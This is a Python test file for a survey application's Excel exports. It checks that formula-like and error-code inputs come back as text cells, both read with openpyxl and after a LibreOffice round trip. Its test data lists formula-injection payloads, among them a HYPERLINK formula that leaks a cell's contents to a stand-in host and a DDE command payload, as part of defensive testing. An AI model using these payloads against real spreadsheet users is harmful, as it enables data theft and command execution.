"""A text answer or note is a text cell in every workbook, exactly as written.

Excel error codes (``#N/A``, ``#DIV/0!``…) and anything a spreadsheet could
take for a formula (``=HYPERLINK(…)``, ``+cmd``, ``-1+1``, ``@SUM``) are
stored as free-text answers and as translator notes, the workbooks are
downloaded as a lead and as an admin (pooled), and every cell is read back
with openpyxl and after a round trip through LibreOffice.
"""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pytest
from flask import Flask
from flask.testing import FlaskClient

from survey.accounts.models import Role
from survey.forms import catalog
from tests.conftest import IN_CI, log_in_as
from tests.test_export import download
from tests.test_results import store, twenty

HOSTILE = [
    "#N/A", "#DIV/0!", "#REF!", "#NAME?", "#NULL!", "#NUM!", "#VALUE!", "#GETTING_DATA",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for help")', "=1+1",
    "=cmd|' /C calc'!A0", "+cmd", "-1+1", "@SUM(A1:A9)", "=SUM(1,2)", "＝１＋１", "=", "#", "-",
    "'=already quoted", "e=mc2", "#N/A ကျွန်မ", "-ကျွန်မ", "=ภาษาไทย",
]
SPACED = [" =1+1", "\t=1+1", "#N/A "]  # free text keeps its spaces; a note is trimmed


@pytest.fixture
def workbooks(app: Flask, client: FlaskClient, organisation, tmp_path: Path) -> dict[str, Path]:
    """The raw workbooks (codes and Burmese) of the organisation, and the pooled one."""
    form = catalog.get_form("priorities")
    twenty(form, organisation.id)
    for text in HOSTILE + SPACED:
        store(form, organisation.id, {"what_helps": text, "government_change": text}, quote=True)
    log_in_as(client, "tam", Role.TRANSLATOR, organisation.id)
    for text in HOSTILE:
        response = client.post("/translate/priorities/note", data={
            "key": "question.what_helps.label", "language": "my", "body": text})
        assert response.status_code == 302
    found = {}
    log_in_as(client, "lena", Role.LEAD, organisation.id)
    for name, query in (("raw-codes", "?lang=codes"), ("raw-my", "?lang=my")):
        found[name] = tmp_path / f"{name}.xlsx"
        found[name].write_bytes(download(client, query))
    log_in_as(client, "ada", Role.ADMIN, organisation.id)
    found["pooled"] = tmp_path / "pooled.xlsx"
    found["pooled"].write_bytes(download(client, "?view=pooled&lang=en"))
    return found


def _no_formula_or_error_anywhere(path: Path) -> None:
    book = openpyxl.load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), (path.name, sheet.title, cell.coordinate,
                                                          cell.value)


def _check_raw(path: Path) -> None:
    """The free-text cells of Responses and Translator notes hold the inputs, as text."""
    book = openpyxl.load_workbook(path)
    responses, notes = book.worksheets[3], book.worksheets[-3]  # Responses, Translator notes
    header = [cell.value for cell in next(responses.iter_rows(min_row=2, max_row=2))]
    for question in ("what_helps", "government_change"):
        column = header.index(question if "codes" in path.name else
                              catalog.get_form("priorities").question(question).label.translations["my"])
        cells = [row[column] for row in responses.iter_rows(min_row=3) if row[column].value is not None]
        assert sorted(c.value for c in cells) == sorted(HOSTILE + SPACED), (path.name, question)
        assert {c.data_type for c in cells} == {"s"}, (path.name, question)
    rows = list(notes.iter_rows())
    heading = next(i for i, row in enumerate(rows) if len(row) > 2 and row[2].value == "Note")
    note_cells = [row[2] for row in rows[heading + 1:] if len(row) > 2 and row[2].value is not None]
    assert sorted(c.value for c in note_cells) == sorted(HOSTILE), path.name
    assert {c.data_type for c in note_cells} == {"s"}, path.name


def test_every_hostile_text_is_a_text_cell_equal_to_what_she_wrote(workbooks):
    for name in ("raw-codes", "raw-my"):
        _check_raw(workbooks[name])
    for path in workbooks.values():
        _no_formula_or_error_anywhere(path)


def test_the_pooled_workbook_has_no_free_text_and_no_formula(workbooks):
    book = openpyxl.load_workbook(workbooks["pooled"])
    values = {cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row}
    assert not values & set(HOSTILE + SPACED)


SOFFICE = shutil.which("soffice")


@pytest.mark.slow
def test_libreoffice_reads_and_writes_them_back_as_the_same_texts(workbooks, tmp_path):
    if SOFFICE is None:
        if IN_CI:
            pytest.fail("LibreOffice is required in CI (apt-get install -y libreoffice-calc)")
        pytest.skip("soffice not found: apt-get install -y libreoffice-calc")
    out = tmp_path / "libreoffice"
    result = subprocess.run(
        [SOFFICE, f"-env:UserInstallation=file://{tmp_path / 'lo'}", "--headless",
         "--convert-to", "xlsx", "--outdir", str(out), *map(str, workbooks.values())],
        capture_output=True, text=True, timeout=300, env={**os.environ, "HOME": str(tmp_path)})
    assert result.returncode == 0, result.stderr
    for name, path in workbooks.items():
        converted = out / path.name
        assert converted.exists(), (result.stdout, result.stderr)
        _no_formula_or_error_anywhere(converted)
        if name != "pooled":
            _check_raw(converted)
